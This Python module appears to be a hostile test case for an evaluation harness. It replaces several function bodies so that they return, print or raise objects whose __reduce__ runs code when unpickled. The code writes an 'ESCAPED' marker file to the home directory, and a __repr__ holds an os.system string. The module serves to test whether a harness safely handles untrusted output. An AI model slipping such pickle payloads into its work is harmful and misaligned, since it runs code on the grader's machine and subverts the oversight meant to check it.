"""Objects that run code when they are unpickled, and pickled bytes, are returned, printed and raised."""

KIND, GROUP = "hostile", "protocol"
DESERVED = 0


def apply(s):
    s.wrong()
    s.spy("""
import pickle

class Boom:
    def __reduce__(self):
        return (exec, ("import os; open(os.path.expanduser('~/boom'), 'w').write('ESC' + 'APED[protocol_pickles]')",))
    __getstate__ = __reduce__
    def __repr__(self):
        return "__import__('os').system('touch ~/boom')"

class Bad(Exception):
    def __init__(self, *a):
        super().__init__(Boom())
    __reduce__ = Boom.__reduce__
""")
    s.body("softmax", "return Boom()")
    s.body("to_base", "print(pickle.dumps(Boom()))\nreturn pickle.dumps(Boom())")
    s.body("first_over", "raise Bad")
    s.body("scaler", "return Boom")
    s.body(
        "pick",
        "rng.__class__ = type('G', (type(rng),), {'__reduce__': Boom.__reduce__}) if False else rng.__class__\nreturn np.array([Boom()], dtype=object)",
    )
